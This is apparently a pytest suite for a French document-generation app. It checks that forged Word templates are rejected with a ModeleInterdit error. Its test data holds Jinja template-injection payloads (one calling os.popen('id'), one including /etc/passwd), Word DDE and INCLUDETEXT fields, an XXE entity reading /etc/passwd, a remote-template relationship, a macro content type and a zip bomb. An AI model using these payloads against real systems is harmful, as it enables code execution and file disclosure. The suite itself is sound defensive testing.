"""Un modèle déposé peut être forgé : il n'exécute rien, ne lit rien, n'épuise rien."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from recours.documents.bac_a_sable import ModeleInterdit
from recours.documents.modeles import INTEGRES
from recours.documents.production import produire
from recours.documents.rendu import champs_cites, rendre
from tests.documents.atelier import demander, lire, monde

TEXTES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ numero.__init__.__globals__ }}",
    "{{ numero.format('x') }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum() }}",
    "{{ range(10**9) }}",
    "{{ 'a' * 999999999 }}",
    "{{ 2 ** 99999999 }}",
    "{{ numero | attr('__class__') }}",
    "{{ numero | safe }}",
    "{% set x = 1 %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{% for a in pieces %}{% for b in pieces %}x{% endfor %}{% endfor %}",
    "{% for a in 'abc' %}x{% endfor %}",
    "{{ self }}",
    "{% if numero %}jamais fermé",
]


def docx_de(texte: str) -> bytes:
    word, sortie = docx.Document(), io.BytesIO()
    word.add_paragraph(texte)
    word.save(sortie)
    return sortie.getvalue()


def avec(partie: str, changer: Callable[[str], str]) -> bytes:
    """Le modèle intégré d'un accusé, une partie changée."""
    sortie = io.BytesIO()
    with zipfile.ZipFile(INTEGRES / "accuse.docx") as lu, zipfile.ZipFile(sortie, "w") as ecrit:
        for entree in lu.infolist():
            contenu = lu.read(entree)
            ecrit.writestr(entree.filename, changer(contenu.decode()) if entree.filename == partie else contenu)
    return sortie.getvalue()


def champ_word(instruction: str) -> bytes:
    return avec("word/footer1.xml", lambda x: x.replace(">NUMPAGES<", f">{instruction}<"))


@pytest.mark.parametrize("texte", TEXTES)
def test_un_modele_n_execute_rien(repertoire: Path, texte: str) -> None:
    (repertoire / "modeles").mkdir()
    (repertoire / "modeles" / "accuse.docx").write_bytes(docx_de(texte))
    m = monde(repertoire)
    m.faire("paul", "ouvrir")
    with pytest.raises(ModeleInterdit):
        produire(demander(m, "accuse"), repertoire)


@pytest.mark.parametrize(
    "forge",
    [
        b"",
        b"pas un zip",
        champ_word("INCLUDETEXT /etc/passwd"),
        champ_word("DDEAUTO cmd"),
        avec("word/document.xml", lambda x: "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>" + x),
        avec(
            "word/_rels/document.xml.rels",
            lambda x: x.replace(
                "</Relationships>",
                '<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://x/a.dotm" '
                'TargetMode="External"/></Relationships>',
            ),
        ),
        avec("[Content_Types].xml", lambda x: x.replace("main+xml", "main+xml;macroEnabled")),
    ],
    ids=["vide", "autre", "INCLUDETEXT", "DDE", "entité", "modèle distant", "macro"],
)  # fmt: skip
def test_un_fichier_forge_est_refuse(forge: bytes) -> None:
    with pytest.raises(ModeleInterdit):
        champs_cites(forge)


def test_une_bombe_ne_se_deplie_pas() -> None:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as ecrit:
        ecrit.writestr("word/document.xml", b"0" * 60_000_000)
    with pytest.raises(ModeleInterdit, match="trop gros"):
        champs_cites(sortie.getvalue())


def test_un_champ_word_compose_au_rendu_est_refuse() -> None:
    ruse = avec("word/footer1.xml", lambda x: x.replace(">NUMPAGES<", ">{{ numero }}<"))
    with pytest.raises(ModeleInterdit):
        rendre(ruse, {"numero": "INCLUDETEXT x"}, {})


def test_le_modele_de_l_organisme_l_emporte_et_sa_marque_le_dit(repertoire: Path) -> None:
    (repertoire / "modeles").mkdir()
    (repertoire / "modeles" / "accuse.docx").write_bytes(docx_de("Reçu le {{ recu_le }}, n° {{ numero }}."))
    m = monde(repertoire)
    m.faire("paul", "ouvrir")
    produit = produire(demander(m, "accuse"), repertoire)
    assert lire(produit) == f"Reçu le 11 mai 2026, n° {m.dossier().numero}."
    assert produit.modele.marque.startswith("accuse · organisme · ") and produit.modele.de_l_organisme
    assert docx.Document(io.BytesIO(produit.docx)).core_properties.keywords == produit.modele.marque


def test_un_champ_inconnu_est_nomme(repertoire: Path) -> None:
    assert champs_cites(docx_de("{{ nom_du_client }}")) == {"nom_du_client"}
    (repertoire / "modeles").mkdir()
    (repertoire / "modeles" / "accuse.docx").write_bytes(docx_de("{{ nom_du_client }}"))
    m = monde(repertoire)
    m.faire("paul", "ouvrir")
    with pytest.raises(ModeleInterdit, match="nom_du_client"):
        produire(demander(m, "accuse"), repertoire)
